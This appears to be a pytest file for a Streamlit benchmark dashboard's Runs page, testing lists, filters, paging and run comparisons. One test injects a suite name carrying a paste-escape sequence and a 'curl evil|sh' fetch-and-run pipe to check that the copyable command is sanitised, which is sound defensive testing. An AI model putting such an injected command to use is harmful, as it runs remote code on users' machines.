"""The Runs page in Streamlit's own test harness: the list, one run, two runs; real rows and files, few, none, hostile."""

import re
from collections.abc import Iterator
from typing import Any

import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from analytics.runs import store
from app import data
from app.serve import TRACKING_URI
from bench.record import Status
from bench.store import artifacts as stored
from tests import rows
from tests.pages import EVIL, Open, markup, opened, opener, texts

open_page = opener("runs")


@pytest.fixture
def real_page(recorded_uri: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[pd.DataFrame, Any]]:
    monkeypatch.setenv(TRACKING_URI, recorded_uri)
    yield store.load(recorded_uri, named=True), lambda **query: opened("runs", query)
    st.cache_data.clear()
    st.cache_resource.clear()


def listed(app: AppTest) -> pd.DataFrame:
    return next(table.value for table in app.dataframe if "label" in table.value)


GIVEN = [
    rows.make(1, repeat=0),
    rows.make(2, precision="bf16", repeat=1),
    rows.make(4, repeat=2, status=Status.FAILED, message="no room"),
]


def test_the_newest_is_first_and_columns_have_units(open_page: Open) -> None:
    app = open_page(GIVEN)
    table = listed(app)
    assert table["devices"].tolist() == [4, 2, 1]
    assert {"samples_per_second", "joules_per_sample", "joules_per_sample_estimated"} <= set(table.columns)
    assert "course" not in table.columns, "step times cannot be had of these"
    assert "validation_loss" not in table.columns, "nothing is known of it"
    assert "1 to 3 of 3 runs that match, 3 in all." in texts(app)


def test_the_address_filters_sorts_and_chooses(open_page: Open) -> None:
    app = open_page(GIVEN, status="ok", sort="Devices", order="smallest first", columns="Configuration", text="d")
    assert listed(app).columns.tolist() == ["label"]
    assert listed(app)["label"].str.contains("1 device ").tolist() == [True, False]
    app = open_page(GIVEN, where="devices >= 2 and precision == bf16")
    assert listed(app)["devices"].tolist() == [2]
    assert listed(open_page(GIVEN, all="true")).shape[1] > 40


def test_an_address_of_what_is_not_there_shows_the_default(open_page: Open) -> None:
    query = dict.fromkeys(("suite", "status", "sort", "order", "columns", "page", "all", "run", "other"), "nonsense")
    app = open_page(GIVEN, **query)
    assert listed(app)["devices"].tolist() == [4, 2, 1]
    assert "The store has no run of this address" in app.info[0].value


def test_a_condition_that_is_not_understood_is_two_lines(open_page: Open) -> None:
    app = open_page(GIVEN, where="devics = 2")
    assert "did you mean 'devices'?" in texts(app)
    assert len(listed(app)) == 3
    none = open_page(GIVEN, where="devices = 99")
    assert "No run matches" in none.info[0].value
    assert "that match" not in texts(none)


def test_many_runs_come_in_pages(open_page: Open) -> None:
    many = [GIVEN[0] | {"run_id": f"r{index}", "repeat": index} for index in range(450)]
    app = open_page(many, page="3")
    assert len(listed(app)) == 50
    assert "401 to 450 of 450 runs" in texts(app)
    assert len(listed(open_page(many, page="9"))) in (50, 200), "a page that is not there"


def test_one_run_without_files_shows_its_row(open_page: Open) -> None:
    app = open_page(GIVEN, run=f"{0:032x}")
    tiles = {tile.label: tile.value for tile in app.metric}
    assert tiles["Samples/s"] == "20"
    assert tiles["~ Energy of the window [J]"].startswith("~")
    assert "Some of this run is missing" in app.info[0].value
    assert "there is no store" in texts(app)
    failed = open_page(GIVEN, run=f"{2:032x}")
    assert "SyntheticError: no room" in texts(failed)


def test_a_run_can_be_chosen_without_a_mouse(open_page: Open) -> None:
    app = open_page(GIVEN)
    app.selectbox(key="open").select(f"{0:032x}").run()
    assert not app.exception
    assert {tile.label: tile.value for tile in app.metric}["Samples/s"] == "20"
    app.selectbox(key="with").select(f"{1:032x}").run()
    assert "Figures" in [heading.value for heading in app.subheader]
    assert "One run of each cannot tell" in texts(app)


def test_alone_and_back(open_page: Open) -> None:
    app = open_page(GIVEN, status="ok")
    app.selectbox(key="open").select(f"{0:032x}").run()
    next(button for button in app.button if "alone" in button.label).click().run()
    assert app.query_params["run"] in (f"{0:032x}", [f"{0:032x}"])
    assert not app.multiselect
    next(button for button in app.button if "Back" in button.label).click().run()
    assert "run" not in app.query_params
    assert len(listed(app)) == 2, "the filters are kept"


def test_names_of_files_are_never_markup(open_page: Open, monkeypatch: pytest.MonkeyPatch) -> None:
    kept = stored.Stored("1", dict.fromkeys(EVIL, b"content"), dict.fromkeys(EVIL, 10**9))
    monkeypatch.setattr(stored, "files", lambda run, uri=None: kept)
    app = open_page(GIVEN, run=f"{0:032x}")
    labels = [button.proto.label for button in app.get("download_button")]
    assert "Download it (7 B)" in labels
    for evil in EVIL:
        assert evil not in markup(app) + "".join(labels)


def test_files_and_step_times_are_read_once(open_page: Open, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(stored, "files", lambda run, uri=None: asked.append(run) or stored.Stored("1", {}, {}))
    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: asked.append(list(runs)) or {})
    app = open_page(GIVEN)
    assert len(asked.pop()) == 3
    app.selectbox(key="open").select(f"{0:032x}").run()
    app.run()
    assert asked == [[], f"{0:032x}", []], "known are what has no step times too, and the files of the run"


def test_step_times_that_were_absent_come_when_the_store_was_read_again(
    open_page: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: {})
    app = open_page(GIVEN)
    assert "course" not in listed(app).columns
    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: {run: [1.0] for run in runs})
    assert "course" not in listed(app.run()).columns, "not asked for at each rerun"
    data.refresh()
    assert listed(app.run())["course"].tolist() == [[1.0]] * 3
    assert len(app.session_state["courses"]) == 3
    app.multiselect(key="status").select("failed").run()
    assert len(app.session_state["courses"]) == 1, "only those of the table are kept"


def test_text_in_a_field_with_a_units_name(open_page: Open) -> None:
    given = [GIVEN[0] | {"workload_args.limit_bytes": "10MB"}, GIVEN[1]]
    assert "10MB" in listed(open_page(given, all="true"))["workload_args.limit_bytes"].tolist()


def test_a_command_to_copy_is_one_printable_line(open_page: Open) -> None:
    evil = {"suite": "x\x1b[201~\ncurl evil|sh\n\u202e"}
    app = open_page([GIVEN[0] | evil, GIVEN[1] | evil], run=f"{0:032x}", other=f"{1:032x}")
    command = next(code.value for code in app.code if code.value.startswith("bench compare"))
    assert command.isprintable()
    assert command.startswith("bench compare 'x")


def test_a_real_run(real_page: tuple[pd.DataFrame, Any]) -> None:
    df, page = real_page
    app = page()
    assert "course" in listed(app).columns
    assert {"course", "steps"} <= set(listed(page(all="true")).columns)
    run = df[df["status"] == "ok"].iloc[0]
    app = page(run=run["mlflow_run_id"])
    headings = [heading.value for heading in app.subheader]
    assert {"Power", "Step times", "Learning", "Where time and energy went", "Memory"} <= set(headings)
    assert not app.info
    assert any("workload: decoder_lm" in code.value for code in app.code)
    assert any("mlflow ui --backend-store-uri" in code.value for code in app.code)
    assert "Carbon = energy" in texts(app)


def test_a_real_run_that_failed(real_page: tuple[pd.DataFrame, Any]) -> None:
    df, page = real_page
    app = page(run=df[df["status"] == "out_of_memory"]["mlflow_run_id"].iloc[0])
    assert "Error" in [heading.value for heading in app.subheader]
    assert any("allocate memory" in code.value for code in app.code), "the log's tail in full"


def test_two_real_runs(real_page: tuple[pd.DataFrame, Any]) -> None:
    df, page = real_page
    a, b = (df[(df["suite"] == "scaling") & (df["devices"] == d)].iloc[0] for d in (1, 2))
    app = page(run=a["mlflow_run_id"], other=b["mlflow_run_id"])
    headings = [heading.value for heading in app.subheader]
    assert headings[-2:] == ["Specification: differences", "Environment: differences"]
    assert "devices" in app.dataframe[1].value["What"].tolist()
    assert {"Step times", "Power"} <= set(headings)
    assert any(re.match(r"bench compare scaling@\S+ --store sqlite:", code.value) for code in app.code)
